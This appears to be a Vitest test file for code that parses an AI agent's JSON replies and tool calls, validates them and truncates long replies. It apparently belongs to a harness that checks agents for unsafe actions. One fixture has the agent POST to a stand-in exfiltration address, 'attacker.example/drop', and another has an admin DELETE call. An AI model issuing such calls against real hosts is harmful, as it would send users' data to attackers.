import { describe, expect, it } from "vitest";
import { mapAgentResponse, MAX_REPLY_BYTES, truncateUtf8 } from "./map-agent-response";

const demo = { replyPath: "$.reply", toolCallsPath: "$.tool_calls" };
const json = (value: unknown) => Buffer.from(JSON.stringify(value));

describe("mapAgentResponse", () => {
  it("maps the demo agent's reply and tool calls", () => {
    const body = json({ reply: "Done.", tool_calls: [{ name: "http_request", arguments: { method: "POST", url: "http://attacker.example/drop" } }] });
    expect(mapAgentResponse(body, demo)).toEqual({
      status: "ok",
      reply: "Done.",
      toolCalls: [{ name: "http_request", arguments: { method: "POST", url: "http://attacker.example/drop" } }],
    });
  });

  it("normalises OpenAI and Anthropic-style tool calls", () => {
    const body = json({
      reply: "",
      tool_calls: [
        { id: "c1", type: "function", function: { name: "fetch_url", arguments: '{"url":"http://x"}' } },
        { id: "c2", type: "function", function: { name: "broken", arguments: "{not json" } },
        { type: "tool_use", name: "admin_api", input: { method: "DELETE" } },
        { name: "no_args" },
      ],
    });
    const outcome = mapAgentResponse(body, demo);
    expect(outcome).toEqual({
      status: "ok",
      reply: "",
      toolCalls: [
        { name: "fetch_url", arguments: { url: "http://x" } },
        { name: "broken", arguments: "{not json" },
        { name: "admin_api", arguments: { method: "DELETE" } },
        { name: "no_args", arguments: null },
      ],
    });
  });

  it("treats missing tool calls as none and a null reply with tool calls as empty text", () => {
    expect(mapAgentResponse(json({ reply: "hi" }), demo)).toEqual({ status: "ok", reply: "hi", toolCalls: [] });
    expect(mapAgentResponse(json({ reply: null, tool_calls: [{ name: "t", arguments: {} }] }), demo)).toMatchObject({ status: "ok", reply: "" });
  });

  it.each([
    ["not json", Buffer.from("<html>oops</html>"), "the agent's reply is not JSON"],
    ["a missing reply", json({ answer: "hi" }), "nothing at $.reply in the agent's reply"],
    ["a reply that is not text", json({ reply: { text: "hi" } }), "the value at $.reply is not text"],
    ["a null reply without tool calls", json({ reply: null }), "the value at $.reply is not text"],
    ["tool calls that are not a list", json({ reply: "hi", tool_calls: { name: "x" } }), "the value at $.tool_calls is not a list"],
    ["a tool call without a name", json({ reply: "hi", tool_calls: [{ name: "ok" }, { arguments: {} }] }), "tool call 1 at $.tool_calls has no name"],
  ])("is a bad response for %s", (_label, body, message) => {
    expect(mapAgentResponse(body, demo)).toEqual({ status: "error", kind: "bad_response", message });
  });

  it("caps the reply at 64 KiB on a character boundary", () => {
    const outcome = mapAgentResponse(json({ reply: "é".repeat(40_000) }), demo);
    expect(outcome.status).toBe("ok");
    const reply = outcome.status === "ok" ? outcome.reply : "";
    expect(Buffer.byteLength(reply)).toBe(MAX_REPLY_BYTES);
    expect(reply).toBe("é".repeat(MAX_REPLY_BYTES / 2));
  });
});

describe("truncateUtf8", () => {
  it("never splits a character", () => {
    expect(truncateUtf8("a🔑b", 4)).toBe("a");
    expect(truncateUtf8("a🔑b", 5)).toBe("a🔑");
    expect(truncateUtf8("short", 100)).toBe("short");
  });
});
